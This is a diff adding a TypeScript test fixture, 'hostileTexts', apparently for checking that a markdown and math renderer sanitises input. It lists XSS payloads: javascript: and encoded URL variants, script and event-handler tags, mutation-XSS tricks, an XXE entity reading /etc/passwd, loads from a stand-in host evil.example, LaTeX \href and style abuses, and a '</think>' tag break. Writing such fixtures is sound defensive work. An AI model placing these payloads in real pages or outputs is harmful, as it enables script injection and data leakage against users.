@@ -1,0 +1,97 @@
+/** By the classes that are known: each is a way in which text has become markup, script or a request somewhere. */
+const scripts: readonly string[] = [
+  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
+  ...['\u0001javascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)'],
+  ...[
+    'javascript&#58;alert(1)',
+    'vbscript:msgbox(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'file:///etc/passwd',
+  ],
+  ...['data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=', 'blob:null/1', 'filesystem:http://x/', 'view-source:http://x'],
+  ...['//evil.example/x', '/app/api/session', '../x', '#x', '?x', 'intent://x#Intent;end', 'http:\\\\evil.example'],
+];
+
+const inLinks: readonly string[] = scripts.flatMap((address) => [
+  `[click](${address})`,
+  `[click](<${address}>)`,
+  `![image](${address})`,
+  `[ref][r]\n\n[r]: <${address}>`,
+]);
+
+const markup: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<script src=https://evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<svg><use href="https://evil.example/x.svg#a"></svg>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><button>go</button></form>',
+  '<input onfocus=alert(1) autofocus>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video src="https://evil.example/v"><source onerror=alert(1)></video>',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://evil.example" onclick="alert(1)">x</a>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?php echo 1 ?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '</div></section><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script></title></style>',
+  '<IMG SRC=`javascript:alert(1)`>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<p style="background:url(https://evil.example/z)">x</p>',
+  '<custom-element is="x">y</custom-element>',
+  '<slot name=x></slot><portal src=https://evil.example></portal>',
+];
+
+const insideMarkdown: readonly string[] = [
+  '[a](https://ok.example "x\\" onmouseover=\\"alert(1)")',
+  '[a](https://ok.example"onmouseover="alert(1))',
+  '![x" onerror="alert(1)](https://ok.example/a.png)',
+  '![a](https://evil.example/pixel.png)\n\n![b][p]\n\n[p]: https://evil.example/pixel2.png',
+  '[![nested](https://evil.example/p.png)](javascript:alert(1))',
+  '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
+  '```js onload=alert(1)\nx\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
+  '# <img src=x onerror=alert(1)>\n\n> <svg onload=alert(1)>\n\n- <script>alert(1)</script>',
+  '<javascript:alert(1)> <https://ok.example/"onmouseover="alert(1)>',
+  'https://ok.example/"onmouseover="alert(1) www.ok.example/<script>',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+  '[\\]: <script>alert(1)</script>]: https://ok.example',
+  '[a]: https://ok.example "<img src=x onerror=alert(1)>"\n\n[a]',
+  '[__proto__]: https://evil.example\n\n[__proto__] [constructor] [toString]',
+  'a \u202Egnp.exe\u202C b \u2066c [\u202Ekcilc](https://ok.example)',
+  '</think><script>alert(1)</script><think>',
+];
+
+const formulas: readonly string[] = [
+  '$\\href{javascript:alert(1)}{x}$',
+  '$$\\href{https://evil.example}{x}$$',
+  '\\(\\url{javascript:alert(1)}\\)',
+  '$\\includegraphics{https://evil.example/x.png}$',
+  '$\\class{x}{y} \\id{a}{b} \\style{color:red;background:url(https://evil.example/q)}{z} \\data{a=b}{c}$',
+  '$\\text{<img src=x onerror=alert(1)>}$',
+  '$\\color{url(https://evil.example/c)} x$',
+  '$\\textcolor{red;background:url(https://evil.example/c)}{x}$',
+  '$\\def\\a{\\a\\a}\\a$',
+  '$\\rule{9999999em}{9999999em}$',
+  '$\\unicode{x3c}script\\unicode{x3e}$',
+  '$\\htmlClass{x}{y} \\htmlId{x}{y} \\htmlStyle{position:fixed}{y} \\htmlData{x=y}{z}$',
+];
+
+export const hostileTexts: readonly string[] = [...inLinks, ...markup, ...insideMarkdown, ...formulas];
